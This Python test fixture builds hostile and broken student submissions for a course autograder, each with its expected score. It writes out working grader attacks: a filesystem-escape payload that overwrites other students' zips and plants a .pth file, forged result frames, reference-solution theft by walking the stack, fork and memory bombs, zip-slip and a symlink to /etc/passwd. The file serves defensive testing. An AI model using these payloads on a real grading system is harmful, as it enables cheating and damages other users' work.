"""A corpus of hostile and broken chapter-1 submissions, each with its expected grade and reason.

Every case starts from the released folder and the reference or the stub implementation,
then breaks one thing. ``total`` is the expected score out of 15; ``words`` must appear in
the CSV's reason or flags (or, for details only instructors see, in the instructor report).

The cases after "infra" each attack one class of weakness the jailed grader closes:
``escape`` (the notebook kernel and the probes are jailed: no checkout, venv, gradebook,
other submission or host /proc to read or write, nothing left running), ``forger`` (the
result channel), ``stackwalk`` (no reference in reach), ``surrogate`` (text that breaks a
UTF-8 write), ``manymembers`` / ``bignnlib`` (unpacking caps); ``slow`` and ``latin1``
are honest and must keep full marks.
"""
from __future__ import annotations

import json
import os
import shutil
import stat
import time
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

from coursekit import variants
from coursekit.synthetic import inject, write_zip

MODULE = "splitting"
NOTEBOOK = "data-splitting.ipynb"


def reference() -> str:
    return variants.reference_source(MODULE)


def stub() -> str:
    return variants.stub_source(MODULE)


def append(source: str, code: str) -> str:
    """``source`` with module-level ``code`` at its end (after, and so replacing, its functions)."""
    return source + "\n" + code.strip() + "\n"


def prepend(source: str, code: str) -> str:
    """``source`` with module-level ``code`` after its imports."""
    anchor = source.index("import numpy as np\n") + len("import numpy as np\n")
    return source[:anchor] + code.strip() + "\n" + source[anchor:]


@dataclass
class Case:
    name: str
    build: Callable[[Path], None]     # edits the student's folder (the release copy) in place
    status: str                       # graded / rejected
    total: float = 0.0
    words: tuple[str, ...] = ()       # in the CSV reason or flags
    report_words: tuple[str, ...] = ()  # in the instructor report
    tampered: bool = False
    zip_extra: Callable[[zipfile.ZipFile], None] | None = None
    older_stub: bool = False          # also send an older zip with the stub


def module(source_fn: Callable[[], str]):
    def build(folder: Path) -> None:
        (folder / "nnlib" / f"{MODULE}.py").write_text(source_fn())
    return build


def edit_notebook(edit: Callable[[dict], None], source_fn: Callable[[], str]):
    def build(folder: Path) -> None:
        module(source_fn)(folder)
        path = folder / NOTEBOOK
        notebook = json.loads(path.read_text())
        edit(notebook)
        path.write_text(json.dumps(notebook))
    return build


def _graded_cells(notebook):
    return [c for c in notebook["cells"] if c.get("metadata", {}).get("nbgrader", {}).get("grade")]


def _edit_checks(notebook):
    for cell in _graded_cells(notebook):
        cell["source"] = "float(3)"
        cell["metadata"]["nbgrader"]["points"] = 100


def _delete_checks(notebook):
    notebook["cells"] = [c for c in notebook["cells"] if c not in _graded_cells(notebook)]


def _skip_checks(notebook):
    for cell in _graded_cells(notebook):
        cell["metadata"].setdefault("tags", []).append("skip-execution")


def _remove(name: str):
    def build(folder: Path) -> None:
        module(reference)(folder)
        target = folder / name
        shutil.rmtree(target) if target.is_dir() else target.unlink()
    return build


def _rename_notebook(folder: Path) -> None:
    module(reference)(folder)
    (folder / NOTEBOOK).rename(folder / "my-work.ipynb")


def _corrupt(folder: Path) -> None:
    module(reference)(folder)
    (folder / NOTEBOOK).write_text('{"cells": [{"cell_type": "code", "source": ')


def _tamper_checker(folder: Path) -> None:
    module(stub)(folder)
    path = folder / "nnlib" / "checking.py"
    path.write_text(path.read_text().replace("earned = self.points * passed / len(graded) if graded else 0.0",
                                             "earned = self.points"))


def _zip_slip(archive: zipfile.ZipFile) -> None:
    archive.writestr("../../outside.py", "print('escaped')\n")


def _many_members(archive: zipfile.ZipFile) -> None:
    for i in range(2100):
        archive.writestr(f"ch01/junk/{i}.txt", "")


def _big_nnlib(archive: zipfile.ZipFile) -> None:
    for i in range(6):   # each just under the per-file cap, together over the total
        archive.writestr(f"ch01/nnlib/pad{i}.py", "#" * (5 * 2**20 - 10), compress_type=zipfile.ZIP_DEFLATED)


def _latin1(folder: Path) -> None:
    source = "# -*- coding: latin-1 -*-\n# Écrit par une étudiante : données découpées.\n" + reference()
    (folder / "nnlib" / f"{MODULE}.py").write_bytes(source.encode("latin-1"))


def _zip_symlink(archive: zipfile.ZipFile) -> None:
    info = zipfile.ZipInfo("ch01/nnlib/extra.py")
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    archive.writestr(info, "/etc/passwd")


ENDLESS = "while True:\n    pass"
SWALLOW = "import time\nwhile True:\n    try:\n        time.sleep(0.05)\n    except BaseException:\n        pass"
FORK = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"
JUDGE_PATCH = "import coursekit.hidden as _h\n_h.judge = lambda check, got, reference: None"
TRANSFORMER = ("from IPython import get_ipython\n_ip = get_ipython()\nif _ip is not None:\n"
               "    _ip.input_transformers_post.append(lambda lines: [l.replace('check.score()', "
               "'float(check.points)') for l in lines])")
# Class 1: everything the old unjailed kernel allowed. Runs at import, in the kernel and in every probe.
# Looks everywhere for course files (read only) and exploits any solution it finds; writes a mark into
# each of the test's TARGETS (the checkout, site-packages, the course and submissions folders), a .pth
# into site-packages, overwrites the zips of the submissions folder (other students' work), and leaves
# a process behind. It touches nothing but the TARGETS, so a broken grader cannot harm the machine;
# the test fails if any of it happened (and removes the marks).
ESCAPE = """
import os
def _escape(targets):
    found = []
    for top in ["/work", "/root", "/home", "/opt", "/srv", "/mnt", "/var", "/proc/1/root", *targets]:
        for folder, dirs, files in os.walk(top):
            if folder.count("/") > 6:
                dirs[:] = []
            for name in dirs + files:
                if name in ("solutions", "gradebook.db", "graders"):
                    found.append(os.path.join(folder, name))
    for target in targets:
        for name, text in (("HOSTILE_MARK", "x"), ("zz_hostile.pth", "import os")):
            try:
                open(os.path.join(target, name), "w").write(text)
            except OSError:
                pass
        if target.endswith("inbox") and os.path.isdir(target):
            for name in os.listdir(target):
                if name.endswith(".zip") and not name.startswith("escape"):
                    try:
                        open(os.path.join(target, name), "wb").write(b"overwritten")
                    except OSError:
                        pass
    for path in found:
        if path.endswith("solutions") and os.path.isfile(os.path.join(path, "splitting.py")):
            exec(open(os.path.join(path, "splitting.py")).read(), globals())
    try:
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                import time
                time.sleep(120)
            os._exit(0)
    except OSError:
        pass
    return found
_FOUND = _escape(TARGETS)
"""

# Class 2: forge result frames and lines on every descriptor (only in the probes, not in the kernel).
FORGER = """
import os, sys, json, struct
def _forge():
    frames = [json.dumps(m).encode() for m in ({"ready": True}, {"result": [1, 2, 3]})]
    data = b"".join(struct.pack(">I", len(f)) + f for f in frames)
    lines = b"".join(json.dumps({"index": i, "result": 1.0}).encode() + b"\\n" for i in range(40))
    for fd in range(3, 64):
        for blob in (data, lines):
            try:
                os.write(fd, blob)
            except OSError:
                pass
    for path in ("/proc/1/fd/1", f"/proc/{os.getppid()}/fd/1"):
        try:
            with open(path, "wb") as out:
                out.write(lines)
        except OSError:
            pass
if "ipykernel" not in sys.modules:
    _forge()
"""

# Class 1: the in-kernel hidden checks had the reference module in reach.
STACKWALK = """
import gc, sys
def _reference(name):
    for obj in gc.get_objects():
        if type(obj).__name__ == "module" and obj.__name__ != __name__ and hasattr(obj, name):
            if obj.__name__.startswith(("_reference", "nnlib.splitting")) and obj.__name__ != __name__:
                return getattr(obj, name)
    frame = sys._getframe()
    while frame is not None:
        for value in frame.f_locals.values():
            if hasattr(value, name) and getattr(value, "__name__", "") != __name__:
                return getattr(value, name)
        frame = frame.f_back
    raise NotImplementedError
def split_indices(*args, **kwargs):
    return _reference("split_indices")(*args, **kwargs)
def recommended_split(*args, **kwargs):
    return _reference("recommended_split")(*args, **kwargs)
"""

READ_REFERENCE = ("try:\n    from coursekit.paths import ROOT as _ROOT\n"
                  "    _text = open(_ROOT / 'solutions' / 'splitting.py').read()\n"
                  "    print(_text)\n    exec(_text)\nexcept Exception:\n    pass")

CASES = [
    Case("reference", module(reference), "graded", 15),
    Case("endless", module(lambda: inject(reference(), "kfold_indices", ENDLESS)), "graded", 12,
         report_words=("did not finish",)),
    Case("swallower", module(lambda: inject(reference(), "kfold_indices", SWALLOW)), "graded", 12,
         words=("notebook could not be run",), report_words=("did not finish",)),
    Case("membomb", module(lambda: inject(reference(), "apply_standardizer", "_hog = bytearray(64 * 2**30)")),
         "graded", 13, report_words=("MemoryError",)),
    Case("forkbomb", module(lambda: inject(reference(), "fit_standardizer", FORK)), "graded", 13),
    Case("osexit", module(lambda: inject(reference(), "recommended_split", "import os\nos._exit(3)")),
         "graded", 13, words=("notebook could not be run",), report_words=("exit code 3",)),
    Case("segfault", module(lambda: inject(reference(), "stratified_split", "import ctypes\nctypes.string_at(0)")),
         "graded", 12, words=("notebook could not be run",), report_words=("segmentation fault",)),
    Case("chatty", module(lambda: inject(reference(), "split_indices", "print('x' * 200_000)")), "graded", 15),
    Case("warner", module(lambda: inject(reference(), "fit_standardizer",
                                         "import sys, warnings\nwarnings.warn('careful')\nsys.stderr.write('note\\n')")),
         "graded", 15),
    Case("importloop", module(lambda: prepend(reference(), ENDLESS)), "graded", 0,
         report_words=("importing nnlib/splitting.py did not finish",)),
    Case("syntax", module(lambda: reference().replace("def kfold_indices(n, k, *, rng):", "def kfold_indices(n, k, *, rng)")),
         "graded", 0, report_words=("SyntaxError",)),
    # the commonest beginner errors: full feedback with a readable message, no flag (issue 13, item 3)
    Case("torchimport", module(lambda: prepend(reference(), "import torch")), "graded", 0,
         report_words=("No module named 'torch'", "nnlib/splitting.py line")),
    # a wrong TYPE may raise TypeError (issue 13, item 4): a careful student's type guard loses nothing
    Case("typeerror", module(lambda: inject(reference(), "kfold_indices",
                                            "if isinstance(k, (float, str)) or isinstance(n, (float, str)):\n"
                                            "    raise TypeError('n and k must be integers')")), "graded", 15),
    Case("nonotebook", _remove(NOTEBOOK), "rejected", words=("no data-splitting.ipynb",)),
    Case("renamed", _rename_notebook, "rejected", words=("my-work.ipynb",)),
    Case("nomodule", _remove(f"nnlib/{MODULE}.py"), "rejected", words=("missing nnlib/splitting.py",)),
    Case("corrupt", _corrupt, "rejected", words=("not a valid notebook",)),
    Case("editedcells", edit_notebook(_edit_checks, stub), "graded", 0),
    # nbgrader's add_missing_cells cannot restore a cell whose previous grade cell is gone too
    Case("deletedcells", edit_notebook(_delete_checks, reference), "graded", 15,
         words=("notebook could not be run", "check cells were deleted")),
    Case("skiptag", edit_notebook(_skip_checks, stub), "graded", 0),
    # the kernel's coursekit.hidden only relays the isolated verdicts: patching it gains nothing
    Case("judgepatch", module(lambda: prepend(stub(), JUDGE_PATCH)), "graded", 0),
    Case("transformer", module(lambda: prepend(stub(), TRANSFORMER)), "graded", 0,
         words=("possibly tampered",), tampered=True),
    Case("displayhook", module(lambda: stub().replace("    raise NotImplementedError(",
                                                      "    __import__('sys').displayhook(2.0)\n    raise NotImplementedError(")),
         "graded", 0, words=("possibly tampered",), tampered=True),
    # the kernel runs jailed: no solutions/ to read, so nothing to leak and nothing gained
    Case("readsref", module(lambda: append(stub(), READ_REFERENCE)), "graded", 0),
    Case("zipslip", module(reference), "graded", 15, words=("unsafe path",), zip_extra=_zip_slip),
    Case("symlink", module(reference), "graded", 15, words=("symbolic link",), zip_extra=_zip_symlink),
    Case("latecomer", module(reference), "graded", 15, older_stub=True),
    Case("infra", _tamper_checker, "graded", 0),
    # -- the classes the jailed grader closes (see the module docstring) --
    Case("escape", None, "graded", 0),   # build set by build_class (it needs the targets)
    Case("forger", module(lambda: prepend(stub(), FORGER)), "graded", 0, words=("result protocol",)),
    Case("stackwalk", module(lambda: append(stub(), STACKWALK)), "graded", 0),
    Case("surrogate", module(lambda: inject(reference(), "fit_standardizer",
                                            "print('\\udc80')\nraise ValueError('bad \\udc80 value')")),
         "graded", 13, report_words=("bad ? value",)),
    Case("manymembers", module(reference), "rejected", words=("members",), zip_extra=_many_members),
    Case("bignnlib", module(reference), "rejected", words=("unpack to",), zip_extra=_big_nnlib),
    Case("slow", module(lambda: inject(reference(), "split_indices", "import time\ntime.sleep(0.02)")), "graded", 15),
    Case("latin1", _latin1, "graded", 15),
]


def escape_source(targets: list[Path], jailed: bool) -> str:
    """The stub with ESCAPE aimed at ``targets``; without a jail to stop it, a harmless stub."""
    if not jailed:
        return stub()
    return prepend(stub(), f"TARGETS = {[str(t) for t in targets]!r}\n" + ESCAPE)


def build_class(release: Path, work: Path, inbox: Path, targets: list[Path] = (), jailed: bool = False) -> None:
    """One zip per case in ``inbox`` (and an older stub zip for the latecomer, and two strays).

    ``targets`` are the folders the escape case tries to write into (only when ``jailed``).
    """
    inbox.mkdir(parents=True, exist_ok=True)
    escape = escape_source(list(targets), jailed)
    for case in CASES:
        if case.name == "escape":
            case.build = module(lambda: escape)
        folder = work / case.name
        shutil.copytree(release, folder)
        if case.older_stub:
            module(stub)(folder)
            older = write_zip(folder, inbox / f"{case.name}_1_old.zip", "ch01")
            past = time.time() - 3600
            os.utime(older, (past, past))
        case.build(folder)
        write_zip(folder, inbox / f"{case.name}_2.zip", "ch01", case.zip_extra)
    (inbox / "notzip_3.zip").write_bytes(b"%PDF-1.7 definitely not a zip")
    (inbox / os.fsdecode(b"\xff\xfebadname.zip")).write_bytes(b"not even a zip")   # a name that is not UTF-8


# -- fairness cases of other chapters (issue 13): honest code that must keep its marks --------------

# A beginner's dropout_forward: one Python-level draw per unit, as the docstring allows. On this
# machine it needs about 0.5 s of CPU per 10^6 units (about 1.5 s on the largest hidden check, 30x
# the vectorized reference): slow, correct, and it must get full marks, also on a busy machine.
SLOW_DROPOUT = '''
def dropout_forward(a, keep_prob, *, rng=None, train=True):
    a = np.asarray(a, dtype=np.float64)
    if isinstance(keep_prob, bool) or not isinstance(keep_prob, (int, float, np.integer, np.floating)):
        raise ValueError("keep_prob must be a number in (0, 1]")
    keep_prob = float(keep_prob)
    if not 0 < keep_prob <= 1:
        raise ValueError("keep_prob must be in (0, 1]")
    if not train:
        return a.copy(), np.ones_like(a)
    if not isinstance(rng, np.random.Generator):
        raise ValueError("rng must be a numpy Generator when train is true")
    mask = np.zeros(a.shape)
    for index in np.ndindex(a.shape):
        if rng.random() < keep_prob:
            mask[index] = 1.0 / keep_prob
    return a * mask, mask
'''


def slow_dropout_source() -> str:
    """The regularization reference with :data:`SLOW_DROPOUT` in place of its dropout_forward."""
    return append(variants.reference_source("regularization"), SLOW_DROPOUT)
